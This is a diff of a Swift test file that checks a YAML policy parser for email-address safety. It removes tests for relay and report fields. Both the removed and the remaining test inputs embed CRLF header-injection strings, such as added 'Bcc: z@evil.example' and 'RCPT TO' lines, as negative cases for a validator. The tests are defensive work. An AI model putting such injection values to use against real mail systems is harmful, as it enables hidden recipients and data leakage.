@@ -72,13 +72,6 @@ struct AddressSafetyTests {
             ),
             ("departments:\n  - {code: STTTT, alias: \"stttt\\nX:y@namdinh.gov.vn\"}", "departments[0].alias"),
             ("departments:\n  - {code: STTTT, shared: [\"vt\\r@namdinh.gov.vn\"]}", "departments[0].shared[0]"),
-            ("report:\n  leadership: [\"x>\\r\\nX-Injected:1\\r\\nX:<y@namdinh.gov.vn\"]", "report.leadership[0]"),
-            ("relay:\n  reply_to: \"a>\\r\\nBcc:z\\r\\nX:<a@namdinh.gov.vn\"", "relay.reply_to"),
-            ("relay:\n  from: \"CNTT <baocao@namdinh.gov.vn>\\r\\nBcc: z@evil.example\"", "relay.from"),
-            ("relay:\n  from: \"CNTT <bao cao@namdinh.gov.vn>\"", "relay.from"),
-            ("relay:\n  username: \"baocao\\r\\nRCPT TO:<z@evil.example>\"", "relay.username"),
-            ("relay:\n  unsubscribe: \"mailto:a@namdinh.gov.vn>\\r\\nBcc: z@evil.example\"", "relay.unsubscribe"),
-            ("relay:\n  server: \"smtp://mail.namdinh.gov.vn\\r\\n\"", "relay.server"),
             ("attributions:\n  \"a\\r\\nX:y@gmail.com\": E1", "attributions"),
         ])
     func policy(_ body: String, key: String) throws {
@@ -97,16 +90,8 @@ struct AddressSafetyTests {
                 """
                 departments:
                   - {code: STTTT, alias: stttt@namdinh.gov.vn, heads: [annv@namdinh.gov.vn]}
-                report: {leadership: [dunglt@namdinh.gov.vn]}
-                relay:
-                  from: "Trung tâm CNTT <baocao@namdinh.gov.vn>"
-                  reply_to: hotro@namdinh.gov.vn
-                  username: baocao
-                  unsubscribe: "mailto:hotro@namdinh.gov.vn?subject=stop"
                 """), location: "Policies/x.yaml")
         #expect(policy.departments[0].heads == ["annv@namdinh.gov.vn"])
-        #expect(policy.relay.from == "Trung tâm CNTT <baocao@namdinh.gov.vn>")
-        #expect(policy.report.leadership == ["dunglt@namdinh.gov.vn"])
     }
 
     @Test("error text: control characters shown escaped, on one line")
